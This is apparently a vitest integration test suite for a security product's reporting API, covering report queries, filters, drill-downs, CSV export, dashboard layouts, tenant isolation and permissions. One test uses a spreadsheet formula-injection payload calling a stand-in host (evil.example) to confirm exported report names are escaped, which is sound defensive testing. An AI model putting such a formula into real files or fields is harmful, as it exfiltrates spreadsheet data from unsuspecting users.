import { describe, expect, it } from 'vitest';
import { dashboardLayout, insights, instantReport, pastReports, reportQueryOps, scheduledReports } from '../../definitions/api/reports';
import { dashboard } from '../../definitions/reports/dashboard';
import {
  DRILL_DOWNS,
  REPORT_INTERVALS,
  REPORT_NAMES,
  reportFilters,
  reportSpec,
  threatEvasionDrillDown,
  type ReportName,
  type ReportResult,
} from '../../schemas/reports';
import { asResponseOf, signedIn, signedInWithRole, type ApiResponse } from './helpers';

const NOW_S = Math.floor(Date.now() / 1000);
const RANGE = `start=${NOW_S - 31 * 86_400}&end=${NOW_S}`;
type Datum = { key: string; label?: string; id?: string; value: number };

function result(res: ApiResponse, name: ReportName): ReportResult {
  expect(res.status, `${name}: ${res.text}`).toBe(200);
  return asResponseOf(reportQueryOps[name].id, res.body) as ReportResult;
}
const data = (r: ReportResult): Datum[] => (r.kind === 'top' || r.kind === 'evasion' ? r.data : []);

/** A value each drill-down report requires, taken from the seeded data. */
const REQUIRED_SAMPLE: Record<string, string> = { cats: '50', userid: '', alert_sub_type: 'ssn' };

describe('report catalogue', () => {
  it('answers every report in its declared shape, with the defaults of 001 §9', async () => {
    const admin = await signedIn('auditor');
    REQUIRED_SAMPLE.userid = data(result(await admin.get('/api/rep/v1/query/top_users?limit=1'), 'top_users'))[0]!.key;
    for (const name of REPORT_NAMES) {
      const need = reportSpec(name).requires;
      const query = need ? `?${need}=${encodeURIComponent(REQUIRED_SAMPLE[need]!)}` : '';
      const r = result(await admin.get(`/api/rep/v1/query/${name}${query}`), name);
      expect(r.interval, name).toBe('30d');
      if (r.kind === 'top' || r.kind === 'evasion') expect(r.data.length, name).toBeLessThanOrEqual(50);
    }
  });

  it('follows the interval table: granularity, bins and expansion', async () => {
    const admin = await signedIn('admin');
    for (const [interval, row] of Object.entries(REPORT_INTERVALS)) {
      const r = result(await admin.get(`/api/rep/v1/query/action_summary?interval=${interval}`), 'action_summary');
      expect(r).toMatchObject({ granularity: row.granularity, bins: row.bins, expansion: row.expansion });
      expect(r.kind === 'series' && r.series.length).toBe(row.bins);
      expect(r.end - r.start).toBeGreaterThan(0);
    }
  });

  it('honours limit, start and end', async () => {
    const admin = await signedIn('admin');
    const r = result(await admin.get(`/api/rep/v1/query/top_domains?limit=7&${RANGE}`), 'top_domains');
    expect(data(r)).toHaveLength(7);
    expect(r.start).toBe(NOW_S - 31 * 86_400);
    expect(r.end).toBe(NOW_S);
    expect((await admin.get('/api/rep/v1/query/top_domains?limit=0')).status).toBe(400);
    expect((await admin.get(`/api/rep/v1/query/top_domains?start=${NOW_S}&end=${NOW_S - 1}`)).status).toBe(400);
  });

  it('sends isolate as safeview, and applies every filter rule', async () => {
    const admin = await signedIn('admin');
    const total = async (q: string) => result(await admin.get(`/api/rep/v1/query/top_domains?${RANGE}&${q}`), 'top_domains').total;
    const safeview = await total('pe_action=safeview');
    expect(safeview).toBeGreaterThan(0);
    expect(await total('pe_action=isolate')).toBe(safeview);
    const block = await total('pe_action=block');
    expect(await total(`pe_action=${encodeURIComponent('block+isolate')}`)).toBe(block + safeview);
    expect(await total('pe_action=block&pe_action=safeview')).toBe(block + safeview);
    expect(await total('pe_action=all&userid=')).toBe(await total(''));
  });

  it('answers a filtered report over a range wholly past the retention (at most 365 days) with nothing, on every report', async () => {
    const admin = await signedIn('admin');
    const longAgo = `start=${NOW_S - 400 * 86_400}&end=${NOW_S - 399 * 86_400}`;
    for (const name of REPORT_NAMES) {
      const spec = reportSpec(name);
      const need = spec.requires ? `&${spec.requires}=${encodeURIComponent(REQUIRED_SAMPLE[spec.requires]!)}` : '';
      const [param, filterSpec] = Object.entries(reportFilters(spec.logType))[0]!;
      const filter = `&${param}=${encodeURIComponent(filterSpec.values?.[0] ?? 'someone@example.com')}`;
      const r = result(await admin.get(`/api/rep/v1/query/${name}?${longAgo}${need}${filter}`), name);
      expect('total' in r ? r.total : 0, name).toBe(0);
    }
  });

  it('takes a time zone and granularity for SMTP reports by date', async () => {
    const admin = await signedIn('admin');
    const r = result(await admin.get('/api/rep/v1/query/smtp_by_date?interval=7d&granularity=P1D&timezone=Asia/Tokyo'), 'smtp_by_date');
    if (r.kind !== 'series') throw new Error(r.kind);
    for (const p of r.series) expect(new Date((p.ts + 9 * 3600) * 1000).getUTCHours()).toBe(0);
    expect((await admin.get('/api/rep/v1/query/smtp_by_date?timezone=Nowhere/Else')).status).toBe(400);
  });
});

describe('drill-downs (001 §2, §5)', () => {
  it('drills from top categories, users and alert types into the report the datum opens', async () => {
    const admin = await signedIn('admin');
    for (const from of ['top_categories', 'top_users', 'dlp_alert_types'] as const) {
      const dd = DRILL_DOWNS[from]!;
      const top = data(result(await admin.get(`/api/rep/v1/query/${from}?${RANGE}&limit=3`), from));
      expect(top.length, from).toBeGreaterThan(0);
      for (const d of top) {
        const drilled = result(await admin.get(`/api/rep/v1/query/${dd.report}?${RANGE}&${dd.param}=${encodeURIComponent(d.key)}`), dd.report);
        expect(drilled.total, `${from} → ${d.key}`).toBe(d.value);
      }
    }
  });

  it('needs the drilled parameter', async () => {
    const admin = await signedIn('admin');
    const res = await admin.get('/api/rep/v1/query/top_user_domains');
    expect(res.status).toBe(400);
    expect(res.body.errors[0].path).toBe('query.userid');
  });

  it('turns a threat-evasion id into the log filter that finds its events', async () => {
    const admin = await signedIn('admin');
    const heat = data(result(await admin.get(`/api/rep/v1/query/heat_summary?${RANGE}`), 'heat_summary'));
    const lure = heat.find((d) => d.id?.startsWith('lure_category-'))!;
    const technique = heat.find((d) => d.id?.startsWith('heat_evasion_techniques-'))!;
    for (const d of [lure, technique]) {
      const { param, value } = threatEvasionDrillDown(d.id!);
      expect(value).not.toContain(' ');
      // The value goes into the query string as it is: its plus signs are the spaces of the original value.
      const users = result(await admin.get(`/api/rep/v1/query/heat_users?${RANGE}&${param}=${value}`), 'heat_users');
      expect(users.total, d.id).toBe(d.value);
    }
  });
});

describe('insights', () => {
  it('finds users, domains and categories by text, by events or by bytes', async () => {
    const admin = await signedIn('admin');
    const web = asResponseOf(insights, (await admin.get('/api/insights/v1/q?q=GOOGLE')).body);
    expect(web.src).toBe('web');
    expect(web.matches.length).toBeGreaterThan(0);
    expect(web.matches.every((m) => m.label.toLowerCase().includes('google'))).toBe(true);
    const bandwidth = asResponseOf(insights, (await admin.get('/api/insights/v1/q?q=google&src=bandwidth')).body);
    expect(bandwidth.total).toBeGreaterThan(web.total);
    const cats = asResponseOf(insights, (await admin.get('/api/insights/v1/q?q=search%20eng')).body);
    expect(cats.matches).toContainEqual(expect.objectContaining({ field: 'cats', key: '50', label: 'Search Engines' }));
    expect((await admin.get('/api/insights/v1/q')).status).toBe(400);
  });
});

describe('past, scheduled and instant reports', () => {
  it('runs an instant report, lists it first among past reports and downloads it as a CSV file', async () => {
    const admin = await signedIn('admin');
    const res = await admin.put('/api/reports/v1/instant_reports', {
      body: { name: 'Blocked this week', reports: ['top_domains', 'action_summary', 'scan_heat'], interval: '7d', filters: { pe_action: 'block' } },
    });
    expect(res.status, res.text).toBe(200);
    const filed = asResponseOf(instantReport, res.body);
    expect(filed).toMatchObject({ source: 'instant', created_by: 'admin', reports: ['top_domains', 'action_summary', 'scan_heat'] });
    const list = asResponseOf(pastReports, (await admin.get('/api/reports/v1/past_reports')).body);
    expect(list.reports[0]).toEqual(filed);
    const file = await admin.get(`/api/reports/v1/past_reports/${filed.id}`);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(file.headers.get('content-disposition')).toContain(`attachment; filename="${filed.file_name}";`);
    expect(file.text).toContain('Filters,pe_action=block');
    expect(file.text).toContain('Top domains,top_domains');
    expect(Buffer.byteLength(file.text)).toBe(filed.size);
  });

  it('writes a report name that a spreadsheet would run as a formula as plain text', async () => {
    const admin = await signedIn('admin');
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const res = await admin.put('/api/reports/v1/instant_reports', { body: { name, reports: ['top_domains'], interval: '7d' } });
    expect(res.status, res.text).toBe(200);
    const file = await admin.get(`/api/reports/v1/past_reports/${asResponseOf(instantReport, res.body).id}`);
    expect(file.text.split('\r\n')[0]).toMatch(/^Report,"'=HYPERLINK\(""http/);
  });

  it('refuses a filter that does not fit a report, with its field path', async () => {
    const admin = await signedIn('admin');
    const res = await admin.put('/api/reports/v1/instant_reports', {
      body: { name: 'Bad', reports: ['top_domains'], filters: { pe_action: 'sometimes' } },
    });
    expect(res.status).toBe(400);
    expect(res.body.errors[0].path).toBe('filters.pe_action');
  });

  it('saves the scheduled list with a stamp, and answers a stale save with 409 and the stored list', async () => {
    const admin = await signedIn('admin');
    const before = asResponseOf(scheduledReports, (await admin.get('/api/reports/v1/scheduled_reports')).body);
    const schedule = { id: 'daily-risk', name: 'Daily risk', reports: ['top_risk_users', 'heat_summary'], frequency: '1d', interval: '24h', recipients: ['soc@democorp.example'] };
    const saved = await admin.put('/api/reports/v1/scheduled_reports', { body: { ...before, list: [schedule] } });
    expect(saved.status, saved.text).toBe(200);
    expect(saved.body).toMatchObject({ list: [{ ...schedule, enabled: true, filters: {}, limit: 50 }], updated_by: 'admin' });
    expect((await admin.get('/api/reports/v1/scheduled_reports')).body).toEqual(saved.body);

    const stale = await admin.put('/api/reports/v1/scheduled_reports', { body: { ...before, updated_at: '2000-01-01T00:00:00.000Z', list: [] } });
    expect(stale.status).toBe(409);
    expect(stale.body.current).toEqual(saved.body);

    const bad = await admin.put('/api/reports/v1/scheduled_reports', {
      body: { ...saved.body, list: [{ ...schedule, filters: { pe_action: 'sometimes' } }] },
    });
    expect(bad.status).toBe(400);
    expect(bad.body.errors[0].path).toBe('list.0.filters.pe_action');
  });
});

describe('the dashboard each user arranges', () => {
  const LAYOUT = '/api/reports/v1/dashboard_layout';

  it('answers the standard charts until the user saves, then their own arrangement, apart from other users', async () => {
    const webadmin = await signedIn('webadmin');
    const auditor = await signedIn('auditor');
    const first = asResponseOf(dashboardLayout, (await webadmin.get(LAYOUT)).body);
    expect(first).toEqual({ widgets: dashboard.widgets.map((w) => w.report) });
    // A made-up stamp before the first save is stale too, and names the default as current.
    const madeUp = await webadmin.put(LAYOUT, { body: { widgets: ['top_users'], updated_at: '2026-01-01T00:00:00.000Z' } });
    expect(madeUp.status).toBe(409);
    expect(madeUp.body.current).toEqual(first);

    const saved = await webadmin.put(LAYOUT, { body: { widgets: ['top_protocols', 'top_users', 'scan_heat'] } });
    expect(saved.status, saved.text).toBe(200);
    expect(saved.body).toMatchObject({ widgets: ['top_protocols', 'top_users', 'scan_heat'], updated_by: 'webadmin' });
    expect((await webadmin.get(LAYOUT)).body).toEqual(saved.body);
    // Another user of the same tenant still sees the standard charts.
    expect((await auditor.get(LAYOUT)).body.widgets).toEqual(first.widgets);

    // A second save of the same read version (the first had no stamp, this one is stale) changes nothing.
    const again = await webadmin.put(LAYOUT, { body: { widgets: ['top_domains'] } });
    expect(again.status).toBe(409);
    expect(again.body.current).toEqual(saved.body);
    const reordered = await webadmin.put(LAYOUT, { body: { ...saved.body, widgets: ['scan_heat', 'top_protocols'] } });
    expect(reordered.status, reordered.text).toBe(200);
    const stale = await webadmin.put(LAYOUT, { body: { ...saved.body, widgets: [] } });
    expect(stale.status).toBe(409);
    expect(stale.body.current).toEqual(reordered.body);
    expect((await webadmin.get(LAYOUT)).body.widgets).toEqual(['scan_heat', 'top_protocols']);
  });

  it('refuses an unknown report, a chart twice, a drill-down report and unknown fields with the field path, and keeps the stored one', async () => {
    const auditor = await signedIn('auditor');
    const read = (await auditor.get(LAYOUT)).body;
    const refused = async (body: unknown) => {
      const res = await auditor.put(LAYOUT, { body });
      expect(res.status, res.text).toBe(400);
      return res.body.errors as { path: string; key: string }[];
    };
    expect((await refused({ ...read, widgets: ['top_users', 'no_such_report'] }))[0]!.path).toBe('widgets.1');
    expect(await refused({ ...read, widgets: ['top_users', 'top_users'] })).toEqual([expect.objectContaining({ path: 'widgets', key: 'duplicateWidget' })]);
    expect(await refused({ ...read, widgets: ['top_user_domains'] })).toEqual([expect.objectContaining({ path: 'widgets.0', key: 'drillDownReport' })]);
    expect((await refused({ ...read, widgets: [], colour: 'red' }))[0]!.key).toBe('unrecognized_keys');
    expect((await refused({ ...read, widgets: Array(25).fill('top_users') })).some((e) => e.path === 'widgets')).toBe(true);
    expect((await auditor.get(LAYOUT)).body).toEqual(read);
  });
});

describe('tenant isolation', () => {
  it('reports only the caller tenant and keeps past reports apart', async () => {
    const other = await signedIn('other-admin');
    const users = data(result(await other.get('/api/rep/v1/query/top_users'), 'top_users'));
    expect(users.length).toBeGreaterThan(0);
    expect(users.every((u) => u.key.endsWith('@othercorp.example'))).toBe(true);
    const admin = await signedIn('admin');
    const filed = (await admin.put('/api/reports/v1/instant_reports', { body: { name: 'Mine', reports: ['top_users'] } })).body;
    expect((await other.get(`/api/reports/v1/past_reports/${filed.id}`)).status).toBe(404);
    const theirs = asResponseOf(pastReports, (await other.get('/api/reports/v1/past_reports')).body);
    expect(theirs.reports.some((r) => r.id === filed.id)).toBe(false);
  });
});

describe('permissions (dashboard or reports)', () => {
  it('refuses reports to a user with neither dashboard nor reports (403)', async () => {
    const client = await signedInWithRole({ read: ['logs'] });
    expect((await client.get('/api/rep/v1/query/top_domains')).status).toBe(403);
    expect((await client.get('/api/insights/v1/q?q=a')).status).toBe(403);
    expect((await client.get('/api/reports/v1/past_reports')).status).toBe(403);
  });

  it('lets a dashboard reader read reports but not schedule or run them', async () => {
    const client = await signedInWithRole({ read: ['dashboard'] });
    expect((await client.get('/api/rep/v1/query/top_domains?limit=1')).status).toBe(200);
    expect((await client.get('/api/reports/v1/scheduled_reports')).status).toBe(200);
    expect((await client.put('/api/reports/v1/scheduled_reports', { body: { list: [] } })).status).toBe(403);
    expect((await client.put('/api/reports/v1/instant_reports', { body: { name: 'x', reports: ['top_users'] } })).status).toBe(403);
  });
});
